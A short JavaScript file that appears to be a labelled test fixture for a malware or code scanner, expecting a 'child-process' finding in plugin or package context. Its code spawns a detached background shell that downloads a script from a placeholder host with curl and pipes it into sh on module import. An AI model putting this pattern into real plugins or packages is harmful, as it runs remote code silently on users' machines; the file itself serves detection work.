// expect: category=child-process min=95 context=plugin,package
// why: a static ESM import of spawn starts a detached shell running a fetched script.
import { spawn } from 'node:child_process';

const child = spawn('/bin/sh', ['-c', 'curl -s https://dl.example/s | sh'], {
  detached: true,
  stdio: 'ignore',
});
child.unref();

export const started = true;
